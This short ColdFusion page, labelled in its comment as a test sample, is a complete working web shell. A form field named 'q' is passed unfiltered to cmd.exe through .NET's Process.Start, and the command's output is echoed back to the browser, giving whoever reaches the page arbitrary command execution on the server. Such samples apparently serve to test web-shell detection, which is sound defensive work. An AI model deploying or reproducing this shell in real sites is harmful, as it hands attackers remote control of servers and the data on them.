<!--- test sample: ColdFusion's .NET integration starting cmd.exe with a form value --->
<cfif structKeyExists(form, "q")>
<cfscript>
psi = createObject(".NET", "System.Diagnostics.ProcessStartInfo").init("cmd.exe", "/c " & form.q);
psi.set_UseShellExecute(false);
psi.set_RedirectStandardOutput(true);
proc = createObject(".NET", "System.Diagnostics.Process").Start(psi);
writeOutput("<pre>" & htmlEditFormat(proc.get_StandardOutput().ReadToEnd()) & "</pre>");
</cfscript>
</cfif>
<form method="post"><input name="q"><input type="submit" value="go"></form>
